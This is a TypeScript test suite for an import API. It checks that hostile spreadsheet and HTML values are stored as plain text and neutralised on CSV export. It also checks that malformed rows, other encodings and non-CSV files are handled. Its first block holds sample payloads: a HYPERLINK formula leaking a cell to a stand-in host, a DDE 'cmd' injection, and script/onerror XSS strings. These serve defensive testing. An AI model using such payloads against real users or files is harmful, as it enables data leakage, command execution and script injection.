/**
 * Hostile and broken files: formulas and HTML are stored as text (and neutralised again by the
 * export), oversized fields and broken lines are rejected one by one, other encodings are read
 * right, and what is not a CSV or JSON file at all gets a clear 400.
 */
import { readFileSync } from 'node:fs';
import { PublicActorSchema } from '@pare/schema';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_IMPORT_BYTES } from '../../apps/api/src/services/import/source.ts';
import { type Signed, withSignedIn } from '../helpers/accounts.ts';
import { createTestApp, getJson, type TestApp } from '../helpers/test-app.ts';
import { countActors, exportText, importJson, postImport } from './helpers.ts';

const fixture = (name: string) => readFileSync(new URL(`../fixtures/import/${name}`, import.meta.url));
const HEADER = 'slug,nom,type,publics,actions,territoire,departements,description';
const line = (slug: string, name: string, description = 'Test.') =>
  [slug, name, 'association', 'jeunes', 'prevention', 'departements', '57', description].map((v) => `"${v.replace(/"/g, '""')}"`).join(',');

let t: TestApp;
let admin: Signed;
beforeAll(async () => ({ t, who: admin } = await withSignedIn(createTestApp(), 'curateur')));
afterAll(() => t.close());

describe('formulas and HTML are text', () => {
  const HYPERLINK = '=HYPERLINK("https://evil.example.test/?leak="&A1,"Cliquez ici")';
  const cases: [slug: string, name: string, description: string][] = [
    ['test-hostile-import-lien', HYPERLINK, "+cmd|' /C calc'!A0"],
    ['test-hostile-import-arobase', 'Arobase hostile (test)', '@SUM(1+1)'],
    ['test-hostile-import-moins', 'Moins hostile (test)', '-2+3'],
    ['test-hostile-import-html', '<script>alert("x")</script> Association (test)', '<img src=x onerror="alert(1)"><b>gras</b>'],
  ];
  let report: { status: number; body: { summary: Record<string, number> } };
  beforeAll(async () => {
    report = await importJson(t, admin, [HEADER, ...cases.map(([s, n, d]) => line(s, n, d))].join('\r\n'));
  });

  it('every row goes in, the values stored exactly as written', () => {
    expect(report.body.summary).toMatchObject({ created: cases.length, rejected: 0 });
    for (const [slug, name, description] of cases) {
      expect(t.db.prepare('SELECT name, description FROM actors WHERE slug = ?').get(slug)).toEqual({ name, description });
    }
  });

  it('the API gives HTML back as a JSON string, never as markup', async () => {
    const { status, headers, body } = await getJson(t.app, '/api/actors/test-hostile-import-html', PublicActorSchema);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toMatch(/^application\/json/);
    expect(body.name).toBe('<script>alert("x")</script> Association (test)');
  });

  it('an imported =HYPERLINK(…) name comes out of the CSV export behind an apostrophe', async () => {
    const rows = parse(await exportText(t), { bom: true, columns: true }) as Record<string, string>[];
    const row = (slug: string) => rows.find((r) => r.slug === slug);
    expect(row('test-hostile-import-lien')).toMatchObject({ nom: `'${HYPERLINK}`, description: "'+cmd|' /C calc'!A0" });
    expect(row('test-hostile-import-arobase')?.description).toBe("'@SUM(1+1)");
    expect(row('test-hostile-import-moins')?.description).toBe("'-2+3");
  });

  it('the apostrophe our export puts before a formula is taken off again, so the export re-imports unchanged', async () => {
    const { body } = await importJson(t, admin, await exportText(t));
    expect(body.summary).toMatchObject({ created: 0, updated: 0, rejected: 0 });
    const escaped = await importJson(t, admin, [HEADER, line('test-hostile-import-apostrophe', "'=1+1 (test)")].join('\r\n'));
    expect(escaped.body.rows[0].action).toBe('created');
    expect(t.db.prepare(`SELECT name FROM actors WHERE slug = 'test-hostile-import-apostrophe'`).pluck().get()).toBe('=1+1 (test)');
  });
});

describe('oversized fields and broken lines are rejected one by one', () => {
  let rows: { row: number; action: string; issues?: { field: string; message: string }[] }[];
  beforeAll(async () => {
    const file = [
      HEADER,
      line('test-long-nom', `Nom très long ${'x'.repeat(200)}`),
      line('test-long-description', 'Description longue (test)', 'y'.repeat(5001)),
      line('test-long-ok', 'Ligne correcte après les longues (test)'),
      '"test-guillemet","Guillemet "mal" placé (test)",association,jeunes,prevention,departements,57,Test.',
      'test-colonnes-en-trop,Colonnes en trop (test),association,jeunes,prevention,departements,57,Test.,en trop',
      line('test-fin-ok', 'Ligne correcte en fin de fichier (test)'),
      '"test-guillemet-ouvert,Guillemet jamais fermé (test),association,jeunes,prevention,departements,57,Test.',
      'test-avalee,Ligne avalée par le guillemet (test),association,jeunes,prevention,departements,57,Test.',
    ].join('\r\n');
    rows = (await importJson(t, admin, file)).body.rows;
  });

  it.each([
    [2, 'nom', /200 caractères/],
    [3, 'description', /5000 caractères/],
    [6, 'ligne', /^La ligne a 9 colonne\(s\) au lieu de 8\.$/],
    [8, 'ligne', /^Guillemet ouvert à la ligne 8 et jamais refermé : les lignes 8 à 9 n’ont pas pu être lues\.$/],
  ])('line %i is rejected on %s', (row, field, message) => {
    const found = rows.find((r) => r.row === row);
    expect(found?.action).toBe('rejected');
    expect(found?.issues?.[0]?.field).toBe(field);
    expect(found?.issues?.[0]?.message).toMatch(message);
  });

  it('the rows around them go in', () => {
    expect(rows.filter((r) => r.action === 'created').map((r) => r.row)).toEqual([4, 5, 7]);
    // A cell with a stray quote is kept as it is written, quotes included: nothing is guessed, nothing lost.
    expect(t.db.prepare(`SELECT name FROM actors WHERE slug = 'test-guillemet'`).pluck().get()).toBe('"Guillemet "mal" placé (test)"');
  });
});

describe('encodings', () => {
  const WIN = 'Établissement test Cœur d’enfance (données de test)';

  it('a Windows-1252 file (a French Excel « CSV ») is detected and its accents read right', async () => {
    const { body } = await importJson(t, admin, fixture('windows-1252.csv'));
    expect(body).toMatchObject({ encoding: 'windows-1252', bom: false, delimiter: ';', summary: { created: 1 } });
    const actor = t.db.prepare('SELECT name, description FROM actors WHERE id = ?').get(body.rows[0].id);
    expect(actor).toEqual({ name: WIN, description: 'Accueil à Metz, « écoute » — test enregistré en Windows-1252.' });
  });

  it.each([
    ['UTF-8 with a BOM', 'utf-8', true, (s: string) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(s, 'utf8')])],
    ['UTF-8 without a BOM', 'utf-8', false, (s: string) => Buffer.from(s, 'utf8')],
    [
      'UTF-16 (Excel « Texte Unicode »)',
      'utf-16le',
      true,
      (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]),
    ],
  ])('%s is read as %s', async (_, encoding, bom, encode) => {
    const slug = `test-encodage-${encoding}-${bom}`;
    const { body } = await importJson(
      t,
      admin,
      new Uint8Array(encode([HEADER, line(slug, 'Éducation à l’égalité — œuvre (test)')].join('\r\n'))),
    );
    expect(body).toMatchObject({ encoding, bom, summary: { created: 1 } });
    expect(t.db.prepare('SELECT name FROM actors WHERE slug = ?').pluck().get(slug)).toBe('Éducation à l’égalité — œuvre (test)');
  });
});

describe('files that cannot be read at all get a 400 naming the file', () => {
  const zip = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]);
  const pdf = new TextEncoder().encode('%PDF-1.7\n1 0 obj\n');
  const binary = new Uint8Array([0x00, 0x01, 0x02, 0x61, 0x62, 0x00]);
  it.each([
    ['an empty file', '', 'csv', /^Le fichier est vide\.$/],
    ['blank lines only', '\r\n\r\n  \r\n', 'csv', /^Le fichier est vide\.$/],
    ['a spreadsheet (xlsx)', zip, 'csv', /classeur/],
    ['a PDF', pdf, 'csv', /PDF/],
    ['binary bytes', binary, 'csv', /pas un fichier texte/],
    ['text that is not a list of actors', 'Bonjour,\nceci n’est pas un export.\n', 'csv', /Colonne « nom » introuvable/],
    ['JSON sent as CSV', '[{"nom": "x"}]', 'csv', /est du JSON/],
    ['CSV sent as data·inclusion', 'nom,type\nx,association\n', 'data-inclusion', /pas un JSON data·inclusion/],
    ['a JSON file of services only', '[{"id": "s", "structure_id": "x", "nom": "Écoute"}]', 'data-inclusion', /que des services/],
    ['a header with a column twice', 'nom,type,Nom\n', 'csv', /apparaît deux fois/],
  ])('%s', async (_, body, format, message) => {
    const before = countActors(t);
    const res = await postImport(t, admin, body, { query: `format=${format}` });
    const json = await res.json();
    expect(res.status).toBe(400);
    expect(json.error).toBe('validation_error');
    expect(json.message).toMatch(message);
    expect(json.issues).toEqual([{ path: 'file', message: json.message }]);
    expect(countActors(t)).toBe(before);
  });

  it('a multipart form is refused with the way to send the file', async () => {
    const form = new FormData();
    form.set('file', new Blob(['nom\nx']), 'a.csv');
    const res = await t.app.request('/api/admin/import', {
      method: 'POST',
      headers: { cookie: admin.cookie, 'x-csrf-token': admin.csrf, origin: 'http://localhost' },
      body: form,
    });
    expect(res.status).toBe(400);
    expect((await res.json()).issues[0].message).toMatch(/corps de la requête/);
  });

  it('without a format or a known Content-Type, the format is asked for', async () => {
    const res = await postImport(t, admin, 'nom\nx', { contentType: 'application/octet-stream' });
    expect(res.status).toBe(400);
    expect((await res.json()).issues[0].path).toBe('format');
  });

  it('an endless body without a Content-Length is cut off while it is read: 413', async () => {
    let sent = 0;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        sent += 1024 * 1024;
        controller.enqueue(new Uint8Array(1024 * 1024).fill(0x61));
      },
    });
    const res = await postImport(t, admin, endless);
    expect(res.status).toBe(413);
    expect((await res.json()).error).toBe('payload_too_large');
    expect(sent).toBeLessThanOrEqual(MAX_IMPORT_BYTES + 3 * 1024 * 1024);
  });

  it('a file over 100 MB is refused with 413 before it is read', async () => {
    const res = await postImport(t, admin, new Uint8Array(MAX_IMPORT_BYTES + 1));
    expect(res.status).toBe(413);
    expect((await res.json()).error).toBe('payload_too_large');
  });
});
